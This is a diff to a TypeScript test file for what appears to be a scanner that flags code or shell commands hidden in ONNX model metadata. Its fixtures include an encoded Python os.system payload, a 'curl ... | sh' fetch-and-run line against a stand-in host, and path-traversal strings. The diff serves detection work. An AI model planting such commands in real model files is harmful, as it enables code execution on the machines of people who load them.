@@ -14,11 +14,18 @@ interface Parts {
   readonly dims?: readonly number[];
   readonly operator?: readonly [domain: string, type: string];
   readonly extra?: number;
+  readonly doc?: string;
+  readonly metadata?: Readonly<Record<string, string>>;
 }
 
-function model({ entries, raw = entries === undefined ? 16 : 0, floats = 0, dims = [4], operator = ['', 'Identity'], extra = 0 }: Parts): ByteSource {
+function model({ entries, raw = entries === undefined ? 16 : 0, floats = 0, dims = [4], operator = ['', 'Identity'], extra = 0, doc, metadata = {} }: Parts): ByteSource {
   const file = new ProtobufWriter();
   file.integer(1, 8);
+  if (doc !== undefined) file.text(6, doc);
+  for (const [key, value] of Object.entries(metadata)) file.message(14, (entry) => {
+    entry.text(1, key);
+    entry.text(2, value);
+  });
   file.message(7, (graph) => {
     graph.message(1, (node) => {
       node.text(1, 'w');
@@ -83,5 +90,19 @@ describe('ONNX structure', () => {
   it('knows a path that leaves the folder on any system', () => {
     expect(['/x', '\\x', 'C:\\x', 'c:x', 'a/../../b', 'a\\..\\b', '~/x', 'file:///x', '', 'a\0b'].map((path) => escapes(path) !== undefined)).toEqual(Array.from({ length: 10 }, () => true));
     expect(['w.bin', 'data/w.bin', 'w..bin', '..w'].map(escapes)).toEqual([undefined, undefined, undefined, undefined]);
+  });
+});
+
+describe('texts in the graph', () => {
+  const judge = async (parts: Parts): Promise<string[]> => alarms(await findingsOf(onnxStructure, [model(parts)]));
+
+  it('are told where they are code or commands', async () => {
+    expect(await judge({ doc: "import os; os.system('true')" })).toEqual(['medium ASY-ONX-010']);
+    expect(await judge({ metadata: { hook: 'X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=' } })).toEqual(['medium ASY-ONX-010']);
+    expect(await judge({ operator: ['', 'curl -s http://host.test/x | sh'] })).toContain('medium ASY-ONX-010');
+  });
+
+  it('are ordinary otherwise', async () => {
+    expect(await judge({ doc: 'Exported by somebody; call eval() before exec time is measured.', metadata: { url: 'https://host.test/model' } })).toEqual([]);
   });
 });
